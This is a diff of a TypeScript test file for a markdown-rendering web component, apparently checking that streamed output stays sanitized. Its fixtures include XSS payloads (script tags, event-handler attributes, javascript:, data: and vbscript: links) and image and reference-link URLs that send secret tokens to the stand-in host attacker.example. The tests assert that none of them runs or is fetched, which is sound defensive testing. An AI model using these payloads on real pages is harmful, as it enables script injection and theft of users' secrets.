@@ -3,13 +3,12 @@ import fc from 'fast-check';
 import { deepElements } from '../../test-support/settle.js';
 import { requestedUrls } from '../../test-support/dom.js';
 import { itNeeds } from '../../test-support/engines.js';
+import { renderWhole } from '../../test-support/markdown-whole.js';
 import './define.js';
 import { FRAME_CHARS } from './frame-budget.js';
-import { INLINE_REACH } from './inline.js';
 import { GROUP } from './tail.js';
 import type { AnswerMarkdown } from './markdown.js';
-import { staticBlocks } from './static.js';
-import { streamWork } from './stream.js';
+import { PROBE, streamWork } from './stream.js';
 
 const document_ = `# Findings
 
@@ -31,15 +30,19 @@ select * from flows where site = 'P4';
 | P4   | 412  |
 `;
 
+// Raw HTML as blocks (each up to its blank line) and inline, and links of every scheme.
 const hostile = `<script>window.__pwned = 1</script>
+
 <img src="https://attacker.example/pixel.png" onerror="window.__pwned = 2">
+
 [click](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)
 ![exfil](https://attacker.example/collect?q=secret-token)
 <a href="javascript:alert(1)" onclick="window.__pwned=4">html link</a>
 <svg onload="window.__pwned=5"></svg><iframe src="https://attacker.example"></iframe>
-[ref link][r]
+[ref link][r] [script ref][j]
 
 [r]: https://attacker.example/ref?q=secret
+[j]: javascript:window.__pwned=6
 `;
 
 async function streamed(text: string, step: number): Promise<AnswerMarkdown> {
@@ -119,8 +122,15 @@ const shown = (el: AnswerMarkdown) =>
     .map((chunk) => [...chunk.childNodes].map(shape).join(''))
     .join('');
 /** What the same text shows rendered at once. */
-const atOnce = (text: string, cites = 0) =>
-  [...staticBlocks(text, cites).childNodes].map(shape).join('');
+function atOnce(text: string, cites = 0): string {
+  // In the page, as the element is: a paragraph in pieces takes the direction it is laid out in.
+  const into = document.body.appendChild(document.createElement('div'));
+  const blocks = [...renderWhole(text, into, cites).children]
+    .map((chunk) => [...chunk.childNodes].map(shape).join(''))
+    .join('');
+  into.remove();
+  return blocks;
+}
 
 /**
  * An element fed `text` through `parts` in pieces cut at `cuts`, checked against `atOnce` after
@@ -181,6 +191,27 @@ describe('answer-markdown', () => {
       expect(a.rel).to.equal('noopener noreferrer');
       expect(a.target).to.equal('_blank');
     }
+    await expect(el).to.be.accessible();
+  });
+
+  it('shows a task list’s boxes read-only, and raw HTML as the text it is', async () => {
+    const text =
+      '- [x] pump checked\n- [ ] valve to check\n\n<div class="x">\n  <b>bold?</b>\n</div>\n';
+    const el = await fixture<AnswerMarkdown>(
+      html`<answer-markdown .text=${text}></answer-markdown>`,
+    );
+    const root = el.shadowRoot!;
+    const boxes = [...root.querySelectorAll<HTMLInputElement>('li.task > input')];
+    expect(boxes.map((box) => [box.type, box.checked, box.disabled])).to.deep.equal([
+      ['checkbox', true, true],
+      ['checkbox', false, true],
+    ]);
+    boxes[1]!.click();
+    expect(boxes[1]!.checked, 'the reader cannot tick it').to.equal(false);
+    expect(root.querySelector('b'), 'no element from the HTML').to.equal(null);
+    const block = root.querySelector('div.html')!;
+    expect(block.textContent).to.equal('<div class="x">\n  <b>bold?</b>\n</div>');
+    expect(getComputedStyle(block).whiteSpace, 'its lines kept').to.equal('pre-wrap');
     await expect(el).to.be.accessible();
   });
 
@@ -260,13 +291,9 @@ describe('answer-markdown', () => {
       html`<answer-markdown complete .text=${document_}></answer-markdown>`,
     );
     const content = (el: AnswerMarkdown) => el.shadowRoot!.querySelector('.content')!;
-    // Streaming, the text sits in several settled blocks and a tail; complete, in one settled block.
     const blocks = (el: AnswerMarkdown) =>
       [...content(el).children].map((chunk) => [...chunk.childNodes].map(shape).join('')).join('');
     expect(blocks(complete)).to.equal(blocks(streaming));
-    expect(content(complete).children, 'one block of final DOM, no streaming tail').to.have.length(
-      1,
-    );
     expect(comments(content(complete)), 'no template markers left').to.equal(0);
     await expect(complete).to.be.accessible();
   });
@@ -399,8 +426,9 @@ describe('answer-markdown', () => {
       .filter((e): e is HTMLAnchorElement => e.localName === 'a')
       .map((a) => a.href);
     expect(hrefs.every((href) => href.startsWith('https:'))).to.equal(true);
-    // Only http(s) URLs become links (bare URLs are linked, as in GFM); none is ever fetched.
+    // Only http(s) URLs become links (an image is a link to it); none is ever fetched.
     expect(hrefs).to.include('https://attacker.example/collect?q=secret-token');
+    expect(hrefs).to.include('https://attacker.example/ref?q=secret');
     expect(hrefs.some((href) => /javascript|data:|vbscript/.test(href))).to.equal(false);
     expect((window as { __pwned?: number }).__pwned).to.equal(undefined);
     expect(
@@ -409,7 +437,48 @@ describe('answer-markdown', () => {
         .filter((url) => url.includes('attacker')),
     ).to.deep.equal([]);
     const text = el.shadowRoot!.textContent!;
-    expect(text).to.include('<script>').and.include('[Image: exfil]').and.include('[ref link][r]');
+    expect(text)
+      .to.include('<script>')
+      .and.include('onerror=')
+      .and.include('[Image: exfil]')
+      .and.include('script ref');
+  });
+
+  it('renders any markdown with only the elements and attributes it allows', async () => {
+    const ELEMENTS = new Set(
+      ['div', 'p', 'span', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre']
+        .concat(['code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'strong', 'em'])
+        .concat(['del', 'br', 'hr', 'input']),
+    );
+    const ATTRIBUTES = new Set(
+      ['class', 'part', 'dir', 'href', 'target', 'rel', 'title', 'start', 'tabindex', 'role']
+        .concat(['data-lang', 'aria-label', 'aria-level', 'scope', 'type', 'disabled'])
+        .concat(['checked']),
+    );
+    const pieces = [
+      ...['word ', '\n', '\n\n', '*', '**', '`', '- ', '1. ', '> ', '# ', '| a | b |\n|---|---|\n'],
+      ...['- [ ] ', '- [x] ', '~~', '[1]', '<script>x()</script>', '<img src=x onerror=y()>'],
+      ...['<a href="javascript:y()" onclick="y()">a</a>', '[l](javascript:y())', '![i](/p.png)'],
+      ...['[r]\n\n[r]: data:text/html,x\n', '<https://e.com/a>', 'www.e.com', '&lt;b&gt;'],
+      ...['<svg onload=y()>', '<style>*{}</style>', '```\n', '    code\n', '<!-- c -->'],
+    ];
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), async (tokens) => {
+        const { ever, attributes } = await streamedWatched(tokens.join(''), 3);
+        const names = ever.map((e) => e.localName);
+        expect(
+          names.filter((name) => !ELEMENTS.has(name)),
+          'elements',
+        ).to.deep.equal([]);
+        expect(
+          attributes.filter((name) => !ATTRIBUTES.has(name)),
+          'attributes',
+        ).to.deep.equal([]);
+        for (const a of ever.filter((e): e is HTMLAnchorElement => e.localName === 'a'))
+          expect(a.getAttribute('href') ?? '').to.match(/^(https?:\/\/|#source-\d+$)/);
+      }),
+      { numRuns: 40 },
+    );
   });
 
   const fence = (lines: number) =>
@@ -861,7 +930,7 @@ describe('answer-markdown', () => {
       // A delta's own characters, read a few times, and a bounded window at the end (about 28 KB
       // here): the same at the first delta as at the 64th, where the open block is 128 KB long.
       for (const [i, chars] of work.entries())
-        expect(chars, `delta ${i}`).to.be.at.most(2 * delta + 6 * INLINE_REACH);
+        expect(chars, `delta ${i}`).to.be.at.most(3 * delta + 8 * PROBE);
       el.complete = true;
       await el.updateComplete;
       expect(shown(el)).to.equal(atOnce(text.slice(0, 128 * 1024), 2));
